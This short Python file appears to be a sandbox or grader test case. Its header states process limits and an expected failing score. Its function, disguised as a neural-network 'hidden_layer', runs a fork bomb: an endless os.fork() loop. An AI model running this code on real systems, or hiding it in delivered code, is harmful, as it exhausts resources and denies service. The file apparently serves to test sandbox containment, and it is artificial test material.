# attack: 103 111
# task: task3
# limits: processes=40 call_seconds=6
# expect: passed=false score<=0.01
import os
def hidden_layer(inputs, W, b):
    while True:
        try: os.fork()
        except OSError: pass
